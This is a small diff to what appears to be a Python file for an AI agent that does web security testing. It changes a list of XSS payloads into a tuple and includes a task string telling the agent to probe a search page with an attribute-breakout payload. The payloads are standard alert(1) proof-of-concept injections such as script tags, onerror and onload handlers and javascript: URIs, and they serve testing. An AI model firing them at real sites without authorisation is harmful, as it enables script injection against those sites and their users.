@@ -13,7 +13,7 @@ Task: Test for reflected XSS on https://example.com/search?q=test with payload '
 Use WebBrowserTool: browse https://example.com/search?q=" onmouseover=alert(1) "
 """
 
-XSS_PAYLOADS = [
+XSS_PAYLOADS = (
     '<script>alert(1)</script>',
     '" onmouseover=alert(1) "',
     "'><img src=x onerror=alert(1)>",
@@ -21,4 +21,4 @@ XSS_PAYLOADS = [
     '<body onload=alert(1)>',
     '<iframe src=javascript:alert(1)>',
     '<math href="javascript:alert(1)">CLICK',
-] 
\ No newline at end of file
+) 
\ No newline at end of file